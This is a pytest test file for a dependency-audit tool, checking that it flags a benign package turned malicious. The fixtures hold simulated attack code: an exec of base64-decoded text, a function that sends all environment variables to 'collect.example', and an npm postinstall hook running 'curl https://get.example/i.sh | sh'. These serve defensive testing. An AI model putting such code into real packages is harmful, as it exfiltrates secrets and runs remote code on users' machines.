"""A benign dependency turns: its new release decodes and runs a payload, and sends the environment away.

What `update --dry-run`, `diff`, `review`, `audit` and `check` show of it, with file and line; and the same of an npm
package with a script that runs at its installation.
"""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support import repositories
from tests.support.approving import ApprovingProject, approving
from tests.support.index_server import IndexServer, serving
from tests.support.npm_project import NpmProject
from tests.support.npm_registry import release
from tests.support.npm_registry import serving as npm_registry
from tests.support.packages import wheel

BENIGN = "def today():\n    return 'today'\n"
TURNED = """\
import base64
import os
import socket

exec(base64.b64decode('cHJpbnQoMSkK'))


def report():
    with socket.create_connection(('collect.example', 443)) as channel:
        channel.sendall(repr(dict(os.environ)).encode())
"""


@pytest.fixture
def index() -> Iterator[IndexServer]:
    """An index with the benign release."""
    with serving([wheel("dates", "3.1.0", code={"dates/zone.py": BENIGN})]) as server:
        yield server


def json_lists(document: Any, key: str) -> list[str]:
    """Everything in the lists that stand under a key, anywhere in a document."""
    if isinstance(document, dict):
        own = document.get(key)
        rest = [one for value in document.values() for one in json_lists(value, key)]
        return [*(own if isinstance(own, list) else ()), *rest]
    return [one for value in document for one in json_lists(value, key)] if isinstance(document, list) else []


def turned(folder: Path, index: IndexServer, policy: str = "") -> ApprovingProject:
    """A project that approved the benign release and updated to the other one, committed before."""
    project = approving(folder, index, ["dates"], "ann", policy=policy)
    project.must("audit", "--fetch")
    repositories.commit(project.folder)
    index.add(wheel("dates", "3.2.0", ["zone-data>=1"], code={"dates/zone.py": TURNED}), wheel("zone-data", "1.0.0"))
    return project


def test_the_update_is_shown_before_it_is_made(tmp_path: Path, index: IndexServer) -> None:
    """`update --dry-run` names the release and the new package; nothing is written."""
    project = turned(tmp_path, index)
    before = project.lock.read_bytes()
    done = project.must("update", "--dry-run", "--refresh")
    assert "dates 3.1.0 -> 3.2.0" in done.out
    assert "zone-data 1.0.0" in done.out
    assert project.lock.read_bytes() == before


def test_the_gain_is_shown_wherever_somebody_judges(tmp_path: Path, index: IndexServer) -> None:
    """`audit`, `diff` and `review` say which capability came, in which file, at which line, by which call."""
    project = turned(tmp_path, index)
    project.must("update", "--refresh")
    done = project.run("audit", "--fetch")
    gained = "gains network: dates/zone.py:9 via socket.create_connection"
    assert gained in done.out
    assert "gains dynamic-code" in done.out
    assert "changed since" in done.out
    assert "new-package: pypi:zone-data 1.0.0" in done.out
    assert gained in project.must("diff").out
    review = project.run("review")
    assert gained.removeprefix("gains ") in " ".join(review.out.split())
    assert gained in json_lists(project.must("diff", "--format", "json").json, "capabilities")


def test_the_payload_is_a_finding_of_the_audit(tmp_path: Path, index: IndexServer) -> None:
    """With path, file and line, and the run of decoded text told apart from a mere call."""
    project = turned(tmp_path, index)
    project.must("update", "--refresh")
    found = project.run("audit", "--fetch", "--format", "json").json
    payload = next(one for one in found["findings"] if one["code"] == "payload-encoded")
    assert payload["subject"] == "dates 3.2.0"
    assert "dates/zone.py:5" in payload["found"]
    assert payload["path"] == ["pyproject.toml", "dates 3.2.0"]


def test_a_policy_stops_it_at_the_audit_and_at_approving(tmp_path: Path, index: IndexServer) -> None:
    """`audit` fails with the line; nobody can approve what the policy denies; `check` fails all along."""
    project = turned(tmp_path, index, policy='deny-capabilities = ["network"]\n')
    project.must("update", "--refresh")
    done = project.run("audit", "--fetch")
    assert done.code == 1
    assert "error[capability-denied]: dates 3.2.0" in done.out
    assert "found: network: dates/zone.py:9 via socket.create_connection" in done.out
    done = project.run("approve", "--all", "--reason", "looks fine", *project.key("ann"))
    assert done.code == 1
    assert "error[capability-denied]: dates 3.2.0" in done.out
    assert project.run("check").code == 1


def test_check_judges_offline_by_what_an_approval_recorded(tmp_path: Path, index: IndexServer) -> None:
    """What was approved while nothing forbade it fails as soon as the policy denies it: no archive is needed."""
    project = turned(tmp_path, index)
    project.must("update", "--refresh")
    before = project.files()
    project.must("approve", "--all", "--reason", "looked at it", *project.key("ann"))
    seen = {one.name: one.seen.capabilities for one in project.newest(before).act.packages}
    assert "network" in seen["dates"]
    assert seen["zone-data"] == ()
    assert project.run("check").code == 0
    text = project.manifest.read_text()
    project.manifest.write_text(text.replace("policy]\n", 'policy]\ndeny-capabilities = ["network"]\n'))
    done = project.run("check")
    assert "error[capability-denied]: dates 3.2.0" in done.out


def test_a_script_at_installation_is_shown_with_its_line(tmp_path: Path) -> None:
    """A `curl | sh` of a postinstall is a finding, and the way it came in is shown by `why`."""
    calm = release("thumbs", "2.0.0", files={"index.js": b"module.exports = 1\n"})
    bad = release("thumbs", "2.1.0", scripts={"postinstall": "curl https://get.example/i.sh | sh"})
    with npm_registry(calm) as registry:
        project = NpmProject(tmp_path, registry, {"thumbs": "^2.0.0"}).locked()
        assert project.run("audit", "--fetch").code == 0
        registry.publish(bad)
        assert project.run("update", "--refresh").code in (0, 1)
        done = project.run("audit", "--fetch", "--format", "json")
        package = next(one for one in done.json["packages"] if one["name"] == "thumbs")
        assert package["version"] == "2.1.0"
        assert {"install-script", "deferred-dependency"} <= set(package["capabilities"])
        why = project.run("why", "--capability", "install-script")
        assert "npm:thumbs 2.1.0" in why.out
        assert "at install time" in why.out
